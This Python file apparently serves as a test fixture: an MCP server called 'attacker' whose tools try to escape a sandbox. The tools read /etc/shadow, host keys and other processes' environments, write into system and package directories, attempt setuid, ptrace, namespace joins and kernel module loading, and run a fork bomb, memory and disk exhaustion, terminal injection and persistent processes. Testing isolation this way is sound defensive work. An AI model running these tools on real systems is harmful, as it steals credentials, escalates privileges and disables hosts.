"""An MCP server that nobody should run: each of its tools attacks the machine it runs on.

A tool says ``denied: ...``, or what it got. ``ATTACK`` holds the facts of the host that a test
plants: paths, a process, a port, names of sockets.
"""

from __future__ import annotations

import ctypes
import fcntl
import glob
import json
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from mcp.server.mcpserver import MCPServer

server = MCPServer("attacker")
HOST: dict[str, Any] = json.loads(os.environ["ATTACK"])
NULL = ctypes.c_void_p(None)
libc = ctypes.CDLL(None, use_errno=True)


def attack(act: Callable[[], object]) -> None:
    """Offer ``act`` as a tool; what it returns, unless it is empty, is what it got."""

    def tool() -> str:
        try:
            got = act()
        except BaseException as error:
            return f"denied: {error!r}"[:300]
        return f"GOT: {got!r}"[:300] if got else "denied: nothing there"

    tool.__doc__ = act.__name__.replace("_", " ")
    server.add_tool(tool, name=act.__name__)


def kernel(name: str, *arguments: object) -> str:
    """A system call by name, on x86-64 or AArch64. Raises OSError."""
    column = 0 if os.uname().machine == "x86_64" else 1
    libc.syscall.restype = ctypes.c_long
    if libc.syscall(ctypes.c_long(CALLS[name][column]), *arguments) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return f"{name} done"


CALLS = {
    "ptrace": (101, 117), "mount": (165, 40), "unshare": (272, 97), "setns": (308, 268),
    "add_key": (248, 217), "keyctl": (250, 219), "bpf": (321, 280), "perf_event_open": (298, 241),
    "io_uring_setup": (425, 425), "memfd_create": (319, 279), "shmget": (29, 194),
    "init_module": (175, 105), "process_vm_readv": (310, 270), "pidfd_getfd": (438, 438),
    "userfaultfd": (323, 282), "open_by_handle_at": (304, 265), "swapon": (167, 224),
    "personality": (135, 92), "fsopen": (430, 430),
}  # fmt: skip


def connect(address: Any, family: int = socket.AF_INET, kind: int = socket.SOCK_STREAM) -> str:
    with socket.socket(family, kind) as client:
        client.settimeout(2)
        client.connect(address)
        if kind == socket.SOCK_DGRAM:
            client.send(b"x")
    return f"reached {address}"


def plant(path: str) -> str:
    with open(path, "w", encoding="utf-8") as file:
        file.write("planted")
    return f"wrote {path}"


@attack
def read_a_file_of_the_host() -> object:
    return Path(HOST["key"]).read_text(encoding="utf-8")


@attack
def read_password_hashes() -> object:
    return Path("/etc/shadow").read_text(encoding="utf-8")


@attack
def read_the_users_of_the_host() -> object:
    text = Path("/etc/passwd").read_text(encoding="utf-8")
    return [line for line in text.splitlines() if line.startswith(("root:", "daemon:"))]


@attack
def read_the_repository() -> object:
    return Path(HOST["repository"]).read_text(encoding="utf-8")


@attack
def list_homes() -> object:
    found = glob.glob("/home/*") + glob.glob("/root/.[a-z]*") + glob.glob("/root/*")
    return [path for path in found if not sys.base_prefix.startswith(path)]  # its own Python


@attack
def read_the_environment() -> object:
    ours = {"ATTACK", "PATH", "HOME", "LANG", "TZ", "PYTHONHASHSEED", "LC_CTYPE", "SHLVL", "PWD"}
    return {name: value for name, value in os.environ.items() if name not in ours}


@attack
def read_the_environment_of_others() -> object:
    found = ""
    for path in glob.glob("/proc/[0-9]*/environ"):
        if int(path.split("/")[2]) != os.getpid():
            try:
                found += Path(path).read_text(encoding="utf-8")
            except OSError:
                continue
    return found


@attack
def see_processes_of_the_host() -> object:
    return HOST["pid"] != os.getpid() and os.path.exists(f"/proc/{HOST['pid']}") and HOST["pid"] > 2


@attack
def look_through_the_first_process() -> object:
    return os.listdir("/proc/1/root/") or os.readlink("/proc/1/cwd")


@attack
def use_descriptors_of_the_first_process() -> object:
    return os.listdir("/proc/1/fd")


@attack
def have_descriptors_left_open() -> object:
    names = {fd: os.readlink(f"/proc/self/fd/{fd}") for fd in os.listdir("/proc/self/fd")}
    known = ("pipe:", "anon_inode:", "socket:", "/proc/")
    more = {fd: to for fd, to in names.items() if not to.startswith(known)}
    return {fd: to for fd, to in more.items() if to != "/dev/null"}


@attack
def read_another_episode() -> object:
    return (Path(HOST["episode"]) / "notes.txt").read_text(encoding="utf-8")


@attack
def write_into_another_episode() -> object:
    return plant(HOST["episode"] + "/planted")


@attack
def list_the_folders_of_the_host() -> object:
    return [name for name in os.listdir(os.path.dirname(HOST["key"])) if name == "key"]


@attack
def write_a_file_of_the_host() -> object:
    return plant(HOST["planted"])


@attack
def write_its_own_environment() -> object:
    return plant(str(Path(json.__file__).parents[1] / "planted.py"))


@attack
def write_its_own_packages() -> object:
    return plant(next(path for path in sys.path if "site-packages" in path) + "/planted.py")


@attack
def write_programs() -> object:
    return plant("/usr/bin/planted")


@attack
def write_the_root() -> object:
    return plant("/planted")


@attack
def follow_a_link_out_of_its_directory() -> object:
    os.symlink(HOST["key"], "out")
    return Path("out").read_text(encoding="utf-8")


@attack
def reach_a_service_of_the_host() -> object:
    return connect(("127.0.0.1", HOST["port"]))


@attack
def reach_the_network() -> object:
    return connect(("192.0.2.1", 80))


@attack
def send_to_a_name_server() -> object:
    return connect(("192.0.2.1", 53), kind=socket.SOCK_DGRAM)


@attack
def reach_the_network_by_ipv6() -> object:
    return connect(("2001:db8::1", 80), socket.AF_INET6)


@attack
def resolve_a_name() -> object:
    return socket.getaddrinfo("example.org", 80)


@attack
def reach_the_hypervisor() -> object:
    return socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)


@attack
def listen_to_packets() -> object:
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW)


@attack
def send_raw_packets() -> object:
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attack
def use_the_crypto_of_the_kernel() -> object:
    return socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)


@attack
def reach_a_unix_socket() -> object:
    return connect(HOST["socket"], socket.AF_UNIX)


@attack
def reach_an_abstract_socket() -> object:
    return connect("\0" + HOST["abstract"], socket.AF_UNIX)


@attack
def signal_a_process_of_the_host() -> object:
    os.kill(HOST["pid"], 0)
    return "it would get it"


@attack
def stop_its_guard() -> object:
    os.kill(os.getppid(), signal.SIGKILL)  # of the first process: the kernel ignores it
    time.sleep(0.2)
    return os.getppid() != 1


@attack
def trace_its_parent() -> object:
    return kernel("ptrace", 16, os.getppid(), 0, 0)


@attack
def read_the_memory_of_its_parent() -> object:
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.create_string_buffer(8)), 8)
    return kernel("process_vm_readv", os.getppid(), vector, 1, vector, 1, 0)


@attack
def take_a_descriptor_of_its_parent() -> object:
    return kernel("pidfd_getfd", os.pidfd_open(os.getppid()), 0, 0)


@attack
def mount_a_file_system() -> object:
    return kernel("mount", b"tmpfs", b"/tmp", b"tmpfs", 0, None)


@attack
def open_a_file_system() -> object:
    return kernel("fsopen", b"tmpfs", 0)


@attack
def make_its_root_writable() -> object:
    return kernel("mount", b"none", b"/", b"none", 32 | 4096, None)


@attack
def make_a_user_namespace() -> object:
    return kernel("unshare", 0x10000000)


@attack
def join_the_namespace_of_its_parent() -> object:
    return kernel("setns", os.pidfd_open(os.getppid()), 0x40000000)


@attack
def change_its_root() -> object:
    os.chroot("/tmp")
    return "changed"


@attack
def become_root() -> object:
    os.setuid(0)
    return f"uid {os.getuid()}"


@attack
def run_a_setuid_program() -> object:
    done = subprocess.run(
        ["/bin/su", "-c", "id -u"], capture_output=True, text=True, timeout=10, check=True,
        stdin=subprocess.DEVNULL,
    )  # fmt: skip
    return done.stdout


@attack
def make_a_device() -> object:
    os.mknod("disk", 0o600 | 0o060000, os.makedev(254, 0))
    return "made"


@attack
def open_devices() -> object:
    mine = {"/dev/null", "/dev/zero", "/dev/random", "/dev/urandom"}
    return set(glob.glob("/dev/*")) - mine


@attack
def run_a_program_of_its_own() -> object:
    path = Path("run")
    path.write_text("#!/bin/sh\necho ran\n", encoding="utf-8")
    path.chmod(0o700)
    return subprocess.run([path.absolute()], capture_output=True, check=True).stdout


@attack
def use_the_keyring() -> object:
    return kernel("add_key", b"user", b"planted", b"x", 1, -3)


@attack
def read_the_keyring() -> object:
    return kernel("keyctl", 0, -3, 0)


@attack
def change_the_time() -> object:
    time.clock_settime(time.CLOCK_REALTIME, time.time())
    return "changed"


@attack
def change_the_name_of_the_host() -> object:
    socket.sethostname("planted")
    return "changed"


@attack
def load_a_program_into_the_kernel() -> object:
    return kernel("bpf", 0, ctypes.create_string_buffer(128), 128)


@attack
def watch_the_processor() -> object:
    return kernel("perf_event_open", ctypes.create_string_buffer(128), 0, -1, -1, 0)


@attack
def queue_calls_past_the_filter() -> object:
    return kernel("io_uring_setup", 8, ctypes.create_string_buffer(120))


@attack
def load_a_kernel_module() -> object:
    return kernel("init_module", b"", 0, b"")


@attack
def handle_page_faults() -> object:
    return kernel("userfaultfd", 1)


@attack
def open_files_by_handle() -> object:
    return kernel("open_by_handle_at", -100, ctypes.create_string_buffer(16), 0)


@attack
def swap_to_a_file() -> object:
    return kernel("swapon", b"/tmp", 0)


@attack
def switch_off_address_randomisation() -> object:
    return kernel("personality", 0x0040000)


@attack
def hold_memory_that_nothing_counts() -> object:
    return kernel("memfd_create", b"x", 0)


@attack
def share_memory_that_nothing_counts() -> object:
    return kernel("shmget", 0, 1 << 20, 0o600 | 0o1000)


@attack
def raise_its_limits() -> object:
    got: list[str] = []
    for name in ("NPROC", "NOFILE", "FSIZE", "DATA", "CORE"):
        kind = getattr(resource, f"RLIMIT_{name}")
        soft, hard = resource.getrlimit(kind)
        if hard == resource.RLIM_INFINITY:
            got.append(f"{name} is unlimited")
        try:
            resource.setrlimit(kind, (hard + 1, hard + 1))
            got.append(f"{name} raised from {soft}")
        except (ValueError, OSError):
            continue
    return got


@attack
def hide_from_the_killer_of_the_kernel() -> object:
    Path("/proc/self/oom_score_adj").write_text("-1000", encoding="ascii")
    return "hidden"


@attack
def change_the_kernel() -> object:
    return plant("/proc/sys/kernel/hostname") or plant("/proc/sysrq-trigger")


@attack
def type_into_the_terminal() -> object:
    with open("/dev/tty", "w", encoding="utf-8") as terminal:
        fcntl.ioctl(terminal, 0x5412, b"x")
    return "typed"


@attack
def reach_through_a_device_of_the_network() -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        names = [name for _, name in socket.if_nameindex()]
        asked = struct.pack("16sh22x", b"eth0", 1)
        return [n for n in names if n != "lo"] or fcntl.ioctl(probe, 0x8914, asked)


@attack
def be_more_urgent_than_others() -> object:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10))
    return "real time"


def link(fd: str) -> str:
    """What a descriptor of this process leads to."""
    try:
        return os.readlink(f"/proc/self/fd/{fd}")
    except FileNotFoundError:
        return "closed"


@server.tool()
def echo(text: str) -> str:
    """What was said."""
    return text


@server.tool()
def fork_without_end() -> int:
    """How many processes there could be; they stay."""
    count = 0
    try:
        while count < 5000:
            if not os.fork():
                time.sleep(600)
                os._exit(0)
            count += 1
    except OSError:
        pass
    return count


@server.tool()
def hold_memory(megabytes: int, processes: int) -> str:
    """Take that much, spread over processes, and keep it."""
    held: list[bytearray] = []
    for _ in range(processes - 1):
        if not os.fork():
            break
    for _ in range(megabytes // processes // 64):
        held.append(bytearray(b"x" * (64 << 20)))
    time.sleep(5)
    return f"holds {len(held)}"


@server.tool()
def fill_the_disk(folder: str) -> str:
    """Write until it fails; says how much."""
    written = 0
    try:
        for number in range(100):
            with open(f"{folder}/big{number}", "wb") as file:
                for _ in range(64):
                    file.write(bytes(1 << 20))
                    written += 1
    except OSError as error:
        return f"{written} MB, then {error.strerror}"
    return f"{written} MB"


@server.tool()
def flood(protocol: bool, line: int, lines: int) -> str:
    """Write lines to the protocol's stream, wherever the SDK keeps it, or to that of errors."""
    names = {int(fd): link(fd) for fd in os.listdir("/proc/self/fd")}
    pipes = [fd for fd, name in names.items() if name.startswith("pipe:")]
    others = [fd for fd in pipes if names[fd] not in (names[0], names[2])]
    for stream in others if protocol else [2]:
        try:
            for _ in range(lines):
                view = memoryview(b"x" * line + b"\n")
                while view:
                    view = view[os.write(stream, view) :]
        except OSError:
            continue  # not one to write to
    return "flooded"


@server.tool()
def leave_a_process() -> str:
    """Start one that outlives this server, if it can."""
    code = f"import time; time.sleep(600) # {HOST['mark']}"
    command = [sys.executable, "-c", code]
    subprocess.Popen(command, start_new_session=True, stdin=subprocess.DEVNULL)
    return "left"


@server.tool()
def plant_links() -> str:
    """Links to the host's files where the host looks after an episode."""
    for place in ("home/server.log", "link"):
        Path(place).unlink(missing_ok=True)
        os.symlink(HOST["key"], place)
    os.mkfifo("pipe")
    Path("/tmp/left").write_text("left", encoding="utf-8")
    return "planted"


@server.tool()
def show(path: str) -> str:
    """What is there."""
    if os.path.islink(path):
        return f"link to {os.readlink(path)}"
    if os.path.isdir(path):
        return " ".join(sorted(os.listdir(path)))
    return Path(path).read_text(encoding="utf-8") if os.path.exists(path) else "nothing"


if __name__ == "__main__":
    server.run()
